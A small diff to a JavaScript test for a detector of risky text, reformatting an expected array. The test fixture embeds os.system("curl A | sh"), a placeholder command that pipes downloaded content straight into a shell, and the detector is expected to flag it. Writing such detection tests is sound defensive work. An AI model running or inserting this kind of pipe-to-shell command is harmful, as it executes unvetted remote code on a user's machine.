@@ -27,7 +27,10 @@ it("what stands in any part is found at its place, and the outcome tells of the 
   const call = 'os.system("curl A | sh")\n';
   const text = `\`\`\`python\n${long}${call}${long}${call}\`\`\`\n`;
   const { spans, outcome } = detector.detect(text);
-  expect(spans.map(([start, end]) => text.slice(start, end))).toEqual(["curl A | sh", "curl A | sh"]);
+  expect(spans.map(([start, end]) => text.slice(start, end))).toEqual([
+    "curl A | sh",
+    "curl A | sh",
+  ]);
   expect(outcome).toMatchObject({ status: "incomplete", limits: [{ limit: "size" }] });
   detector.dispose();
 });
